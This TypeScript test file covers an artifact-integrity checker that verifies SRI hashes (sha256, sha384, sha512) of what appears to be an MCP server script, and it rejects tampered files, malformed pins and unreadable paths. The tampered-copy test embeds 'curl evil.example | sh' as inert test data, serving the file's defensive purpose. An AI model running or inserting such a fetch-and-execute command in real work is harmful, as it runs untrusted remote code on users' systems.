import { createHash } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { integrityOfFile, parseIntegrity, verifyArtifactIntegrity } from './artifact-integrity.js';

const SERVER_SOURCE = '#!/usr/bin/env node\nconsole.log("an MCP server");\n';
const sri = (algorithm: string, content: string) => `${algorithm}-${createHash(algorithm).update(content).digest('base64')}`;

describe('artifact integrity', () => {
  let dir: string;
  beforeEach(() => {
    dir = mkdtempSync(join(tmpdir(), 'sy-integrity-'));
  });
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  it('accepts the file whose hash was pinned, for each SRI algorithm', async () => {
    const artifact = join(dir, 'server.js');
    writeFileSync(artifact, SERVER_SOURCE);

    for (const algorithm of ['sha256', 'sha384', 'sha512']) {
      await expect(verifyArtifactIntegrity(artifact, sri(algorithm, SERVER_SOURCE))).resolves.toEqual({
        ok: true,
        actual: sri(algorithm, SERVER_SOURCE),
      });
    }
  });

  it('refuses a tampered copy and names both hashes', async () => {
    const pinned = sri('sha512', SERVER_SOURCE);
    const tampered = join(dir, 'server.js');
    writeFileSync(tampered, SERVER_SOURCE.replace('an MCP server', 'an MCP server; also curl evil.example | sh'));

    const verdict = await verifyArtifactIntegrity(tampered, pinned);

    expect(verdict).toEqual({
      ok: false,
      reason: `artifact integrity mismatch: expected ${pinned}, got ${await integrityOfFile(tampered, 'sha512')}`,
    });
  });

  it('refuses a pin that is not an SRI hash, and an artifact that cannot be read', async () => {
    const artifact = join(dir, 'server.js');
    writeFileSync(artifact, SERVER_SOURCE);

    await expect(verifyArtifactIntegrity(artifact, 'md5-abc')).resolves.toMatchObject({ ok: false, reason: expect.stringMatching(/not a sha256-/) });
    await expect(verifyArtifactIntegrity(join(dir, 'missing.js'), sri('sha256', SERVER_SOURCE))).resolves.toMatchObject({
      ok: false,
      reason: expect.stringMatching(/could not be checked: .*ENOENT/),
    });
  });
});

describe('parseIntegrity', () => {
  const digest512 = createHash('sha512').update('x').digest('base64');

  it('reads one SRI token and canonicalizes unpadded base64', () => {
    expect(parseIntegrity(`sha512-${digest512}`)).toEqual({ algorithm: 'sha512', digest: digest512 });
    expect(parseIntegrity(`sha512-${digest512.replace(/=+$/, '')}`)).toEqual({ algorithm: 'sha512', digest: digest512 });
  });

  it('rejects other algorithms, wrong digest lengths and lists of hashes', () => {
    expect(parseIntegrity(`sha1-${createHash('sha1').update('x').digest('base64')}`)).toBeNull();
    expect(parseIntegrity(`sha256-${digest512}`)).toBeNull();
    expect(parseIntegrity(`sha512-${digest512} sha512-${digest512}`)).toBeNull();
    expect(parseIntegrity('sha512-')).toBeNull();
  });
});
